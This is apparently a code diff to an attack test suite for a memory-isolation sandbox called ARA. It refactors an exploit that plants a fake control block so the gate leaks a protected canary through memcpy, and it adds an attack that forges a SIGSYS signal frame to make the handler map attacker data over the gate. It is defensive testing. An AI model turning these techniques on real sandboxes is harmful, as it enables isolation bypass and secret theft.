@@ -35,6 +35,7 @@
 #include <sys/syscall.h>
 #include <sys/uio.h>
 #include <sys/wait.h>
+#include <ucontext.h>
 #include <unistd.h>
 
 #include "ara/ara.h"
@@ -348,32 +349,145 @@ static int find_control_block(void)
 }
 
 /*
- * Once App memory sits where the control block was: a fake block whose
- * "dispatcher" is libara's own memcpy. secure_call then runs, with DOM0's
- * row, memcpy(x0, x1, x2) for the App's x0 (a buffer), x1 (DOM0's canary)
- * and x2 (a length), and the App prints what it got.
+ * A fake control block whose "dispatcher" is libara's own memcpy, with
+ * stacks and a stack bitmap in App memory. 0, or -1 if libara's symbols are
+ * not found.
  */
-static void exploit_control_block(void)
+static int fake_control_block(struct fake_cb *cb)
 {
-	struct fake_cb *cb = (struct fake_cb *)(uintptr_t)control_block;
-	uint64_t base = memfd_base("ara-libara");
-	uint64_t memcpy_at = symbol(libara_file, "memcpy"), canary_at = symbol(libara_file, "dom0_canary");
-	int (*gate3)(uint64_t, uint64_t, uint64_t) =
-		(int (*)(uint64_t, uint64_t, uint64_t))(void (*)(void))secure_call;
-	static char stolen[64];
 	static uint64_t claimed; /* the fake block's stack bitmap: none in use */
+	uint64_t base = memfd_base("ara-libara"), memcpy_at = symbol(libara_file, "memcpy");
 
-	if (!base || !memcpy_at || !canary_at) {
-		printf("FAIL: cannot find libara's memcpy and canary in %s\n", libara_file);
-		return;
+	if (!base || !memcpy_at) {
+		printf("FAIL: cannot find libara's memcpy in %s\n", libara_file);
+		return -1;
 	}
 	cb->claimed = (uint64_t)(uintptr_t)&claimed;
 	cb->stack_mask = 1;
 	cb->stack_base = (uint64_t)(uintptr_t)fake_stack;
 	cb->stack_stride = sizeof(fake_stack);
 	cb->dispatch = base + memcpy_at;
-	gate3((uint64_t)(uintptr_t)stolen, base + canary_at, sizeof(stolen) - 1);
-	attack_show_leak((const unsigned char *)stolen, sizeof(stolen) - 1, base + canary_at);
+	return 0;
+}
+
+/* DOM0's canary, found in libara's symbols; 0 if not found. */
+static uint64_t canary_address(void)
+{
+	uint64_t base = memfd_base("ara-libara"), canary_at = symbol(libara_file, "dom0_canary");
+
+	if (!base || !canary_at) {
+		printf("FAIL: cannot find libara's canary in %s\n", libara_file);
+		return 0;
+	}
+	return base + canary_at;
+}
+
+/*
+ * With the fake block in place, secure_call runs, with DOM0's row,
+ * memcpy(x0, x1, x2) for the App's x0 (a buffer), x1 (DOM0's canary) and x2
+ * (a length), and the App prints what it got. (No system call that ARA
+ * traps may run in between: the fake block has no way to ARA's handler.)
+ */
+static void steal_through_gate(uint64_t canary)
+{
+	int (*gate3)(uint64_t, uint64_t, uint64_t) =
+		(int (*)(uint64_t, uint64_t, uint64_t))(void (*)(void))secure_call;
+	static char stolen[64];
+
+	gate3((uint64_t)(uintptr_t)stolen, canary, sizeof(stolen) - 1);
+	attack_show_leak((const unsigned char *)stolen, sizeof(stolen) - 1, canary);
+}
+
+/* Once App memory sits where the control block was. */
+static void exploit_control_block(void)
+{
+	uint64_t canary = canary_address();
+
+	if (canary && fake_control_block((struct fake_cb *)(uintptr_t)control_block) == 0)
+		steal_through_gate(canary);
+}
+
+/*
+ * A forged SIGSYS for a trapped mmap: the filter checked the real calls'
+ * ranges, so ARA must check the ones it performs. App code builds the
+ * frame of a trapped mmap(MAP_FIXED, PROT_READ | PROT_EXEC) of a file that
+ * holds a fake control block, over the gate's control block, and jumps
+ * into ARA's SIGSYS handler; ARA resumes it in after_forged_mmap with the
+ * result in x0.
+ */
+static struct {
+	siginfo_t info;
+	ucontext_t uc;
+} __attribute__((aligned(16))) sigsys_frame;
+static _Alignas(16) unsigned char resume_stack[64 * 1024];
+static uint64_t forged_canary; /* found before the jump: no trapped call after it */
+
+static void capture_frame(int sig, siginfo_t *si, void *ucv)
+{
+	(void)sig;
+	sigsys_frame.info = *si;
+	memcpy(&sigsys_frame.uc, ucv, sizeof(sigsys_frame.uc));
+}
+
+static __attribute__((noreturn)) void after_forged_mmap(long r)
+{
+	if (r == -EPERM) {
+		printf("ara-evidence: a forged trapped mmap(MAP_FIXED) over the gate's control block: "
+		       "refused with EPERM\n");
+		_exit(0);
+	}
+	printf("BREACH: ARA performed a forged mmap over the gate's control block (%ld)\n", r);
+	steal_through_gate(forged_canary);
+	_exit(1);
+}
+
+static int attack_forged_sigsys_mmap(void)
+{
+	struct fake_cb cb;
+	struct range dom1[4];
+	struct sigaction sa;
+	char path[] = "/tmp/ara-fake-cb-XXXXXX";
+	int fd = mkstemp(path);
+	mcontext_t *mc = &sigsys_frame.uc.uc_mcontext;
+
+	forged_canary = canary_address();
+	if (!forged_canary || find_control_block() || fake_control_block(&cb) || fd < 0 ||
+	    pwrite(fd, &cb, sizeof(cb), 0) != sizeof(cb) || ftruncate(fd, 4096) ||
+	    attack_ranges(ARA_PKEY_DOM1, dom1, 4) != 1) {
+		printf("FAIL: setting up the forged mmap\n");
+		return 1;
+	}
+	unlink(path);
+	memset(&sa, 0, sizeof(sa));
+	sa.sa_sigaction = capture_frame;
+	sa.sa_flags = SA_SIGINFO;
+	if (sigaction(SIGUSR1, &sa, NULL) || raise(SIGUSR1)) {
+		printf("FAIL: capturing a signal frame\n");
+		return 1;
+	}
+	sigsys_frame.info.si_signo = SIGSYS;
+	sigsys_frame.info.si_code = 1; /* SYS_SECCOMP */
+	sigsys_frame.info.si_syscall = SYS_mmap;
+	mc->regs[8] = SYS_mmap;
+	mc->regs[0] = control_block;
+	mc->regs[1] = 4096;
+	mc->regs[2] = PROT_READ | PROT_EXEC;
+	mc->regs[3] = MAP_PRIVATE | MAP_FIXED;
+	mc->regs[4] = (uint64_t)fd;
+	mc->regs[5] = 0;
+	mc->pc = (uint64_t)(uintptr_t)after_forged_mmap;
+	mc->sp = (uint64_t)(uintptr_t)(resume_stack + sizeof(resume_stack));
+	if (attack_frame_set_por(mc->__reserved, sizeof(mc->__reserved), ARA_POR_DOM2)) {
+		printf("FAIL: the frame has no POE record\n");
+		return 1;
+	}
+	/* The signal entry is the page after the DOM1 page (ara/gate.h). */
+	__asm__ volatile("mov sp, %0\n"
+			 "br %1\n"
+			 :
+			 : "r"(&sigsys_frame), "r"(dom1[0].end)
+			 : "memory");
+	__builtin_unreachable();
 }
 
 /*
@@ -890,6 +1004,7 @@ static const struct attack {
 	{ "personality", attack_personality },
 	{ "process_madvise", attack_process_madvise },
 	{ "futex_wake_op", attack_futex_wake_op },
+	{ "forged_sigsys_mmap", attack_forged_sigsys_mmap },
 	{ "core_dump_child", attack_core_dump_child },
 };
 
